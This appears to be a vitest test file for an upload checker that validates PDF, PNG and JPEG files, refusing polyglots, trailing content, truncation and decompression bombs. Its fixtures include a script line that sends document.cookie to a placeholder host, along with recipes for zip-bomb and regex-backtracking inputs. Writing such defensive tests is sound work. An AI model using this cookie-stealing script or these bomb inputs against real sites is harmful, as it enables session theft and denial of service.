import { deflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  jpegClaiming,
  largePng,
  sampleJpeg,
  samplePdf,
  samplePng,
  withIncrementalUpdate,
} from '../../test/support/sample-files.ts';
import { checkFileContent, defaultFileCheckLimits, sniffFileType } from './file-types.ts';

const script = Buffer.from(
  '<html><body><script>document.location="https://example.invalid/?"+document.cookie</script></body></html>\n',
  'latin1',
);
let pdf: Buffer;

beforeAll(async () => {
  pdf = await samplePdf();
});

/** Runs the check and says how many bytes of array buffers it left allocated, to show that a refused image was never decoded. */
async function measured(bytes: Buffer) {
  const before = process.memoryUsage().arrayBuffers;
  const started = performance.now();
  const result = await checkFileContent(bytes);
  return {
    result,
    allocated: process.memoryUsage().arrayBuffers - before,
    milliseconds: performance.now() - started,
  };
}

describe('sniffing the claimed type', () => {
  it('reads the signature only, and knows nothing else', () => {
    expect(sniffFileType(Buffer.from('%PDF-1.7'))).toBe('application/pdf');
    expect(sniffFileType(samplePng())).toBe('image/png');
    expect(sniffFileType(sampleJpeg())).toBe('image/jpeg');
    expect(sniffFileType(Buffer.from('MZ\x90\x00', 'latin1'))).toBeUndefined();
  });
});

describe('checking a PDF whole', () => {
  it('accepts PDFs as PDFKit and pdf-lib write them, with object streams, and with an incremental update', async () => {
    const withObjectStreams = Buffer.from(
      await (await PDFDocument.load(pdf)).save({ useObjectStreams: true }),
    );
    expect(withObjectStreams.includes(Buffer.from('/ObjStm'))).toBe(true);
    const updated = withIncrementalUpdate(pdf);
    expect(updated.toString('latin1').match(/%%EOF/g)).toHaveLength(2);
    for (const file of [
      pdf,
      await samplePdf({ pages: 3 }),
      withObjectStreams,
      updated,
      Buffer.concat([pdf, Buffer.from('\r\n\0\0')]),
    ]) {
      expect(await checkFileContent(file)).toEqual({ ok: true, type: 'application/pdf' });
    }
  });

  it('refuses a PDF signature with HTML behind it, even when it ends like a PDF', async () => {
    const html = Buffer.concat([Buffer.from('%PDF-1.7\n'), script]);
    expect(await checkFileContent(html)).toEqual({ ok: false, type: 'application/pdf', problem: 'damaged' });
    expect(await checkFileContent(Buffer.concat([html, Buffer.from('%%EOF\n')]))).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'damaged',
    });
    const fakeObjects = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
      'latin1',
    );
    expect(await checkFileContent(fakeObjects)).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'damaged',
    });
  });

  it('refuses a real PDF with content after its end, and one cut short', async () => {
    expect(await checkFileContent(Buffer.concat([pdf, script]))).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'extra-content',
    });
    expect(await checkFileContent(pdf.subarray(0, pdf.length - 40))).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'damaged',
    });
    expect(await checkFileContent(pdf.subarray(0, Math.floor(pdf.length / 2)))).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'damaged',
    });
  });

  it('refuses an object stream that would inflate past the limit, without inflating it all', async () => {
    const zeros = deflateSync(Buffer.alloc(defaultFileCheckLimits.maxPdfInflatedBytes + 1024 * 1024));
    const bomb = Buffer.concat([
      pdf.subarray(0, pdf.indexOf('\n') + 1),
      Buffer.from(
        `90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${zeros.length} >>\nstream\n`,
        'latin1',
      ),
      zeros,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
      pdf.subarray(pdf.indexOf('\n') + 1),
    ]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect((await measured(bomb)).result).toEqual({
      ok: false,
      type: 'application/pdf',
      problem: 'too-large',
    });
  });

  it('scans a PDF made to make a pattern matcher backtrack in linear time', async () => {
    const header = pdf.subarray(0, pdf.indexOf('\n') + 1);
    const hostile = Buffer.concat([
      header,
      Buffer.from('1 '.repeat(500_000) + '%'.repeat(500_000) + '9'.repeat(500_000) + '\n', 'latin1'),
      pdf.subarray(header.length),
    ]);
    const { result, milliseconds } = await measured(hostile);
    expect(result.ok).toBe(false);
    expect(milliseconds).toBeLessThan(5000);
  });

  it('gives up on a PDF of objects nested to make the search quadratic, within its deadline', async () => {
    const header = pdf.subarray(0, pdf.indexOf('\n') + 1);
    const depth = 200_000;
    const nested = Buffer.concat([
      header,
      Buffer.from('1 0 obj <</A ('.repeat(depth) + ')>>'.repeat(depth) + '\n', 'latin1'),
      pdf.subarray(header.length),
    ]);
    const { result, milliseconds } = await measured(nested);
    expect(result).toEqual({ ok: false, type: 'application/pdf', problem: 'too-large' });
    expect(milliseconds).toBeLessThan(defaultFileCheckLimits.maxPdfScanMilliseconds + 3000);
  });
});

describe('checking an image whole', () => {
  it('accepts a PNG and a JPEG as pngjs and jpeg-js encode them', async () => {
    expect(await checkFileContent(samplePng())).toEqual({ ok: true, type: 'image/png' });
    expect(await checkFileContent(sampleJpeg())).toEqual({ ok: true, type: 'image/jpeg' });
  });

  it('refuses an image signature with script behind it', async () => {
    const png = samplePng();
    const jpeg = sampleJpeg();
    expect(await checkFileContent(Buffer.concat([png.subarray(0, 8), script]))).toEqual({
      ok: false,
      type: 'image/png',
      problem: 'damaged',
    });
    expect(await checkFileContent(Buffer.concat([jpeg.subarray(0, 4), script]))).toEqual({
      ok: false,
      type: 'image/jpeg',
      problem: 'damaged',
    });
  });

  it('refuses a PNG with script after its IEND chunk', async () => {
    expect(await checkFileContent(Buffer.concat([samplePng(), script]))).toEqual({
      ok: false,
      type: 'image/png',
      problem: 'extra-content',
    });
  });

  it('refuses images cut short, and a PNG whose data fails its checksum', async () => {
    const png = samplePng();
    const jpeg = sampleJpeg();
    expect(await checkFileContent(png.subarray(0, png.length - 12))).toEqual({
      ok: false,
      type: 'image/png',
      problem: 'damaged',
    });
    expect(await checkFileContent(png.subarray(0, 40))).toEqual({
      ok: false,
      type: 'image/png',
      problem: 'damaged',
    });
    expect(await checkFileContent(jpeg.subarray(0, jpeg.length - 2))).toEqual({
      ok: false,
      type: 'image/jpeg',
      problem: 'damaged',
    });
    expect(await checkFileContent(jpeg.subarray(0, Math.floor(jpeg.length / 2)))).toEqual({
      ok: false,
      type: 'image/jpeg',
      problem: 'damaged',
    });
    const corrupted = Buffer.from(png);
    const data = corrupted.indexOf('IDAT') + 6;
    corrupted[data] = (corrupted[data] ?? 0) ^ 0xff;
    expect(await checkFileContent(corrupted)).toEqual({ ok: false, type: 'image/png', problem: 'damaged' });
  });

  it('refuses images whose headers claim more pixels than the limit, without decoding them', async () => {
    // 9,000 by 9,000 is 81 megapixels: decoding the PNG would take over 400 MB.
    const png = largePng(9000, 9000);
    expect(png.length).toBeLessThan(200 * 1024);
    const pngCheck = await measured(png);
    expect(pngCheck.result).toEqual({ ok: false, type: 'image/png', problem: 'too-large' });
    expect(pngCheck.allocated).toBeLessThan(16 * 1024 * 1024);
    // Only the header read answers too-large: had the decoder been run, it would have taken seconds and said damaged.
    expect(await checkFileContent(jpegClaiming(9000, 9000))).toEqual({
      ok: false,
      type: 'image/jpeg',
      problem: 'too-large',
    });
    // Just under the limit, the same PNG is decoded and accepted.
    expect(await checkFileContent(largePng(2000, 2000))).toEqual({ ok: true, type: 'image/png' });
  });
});
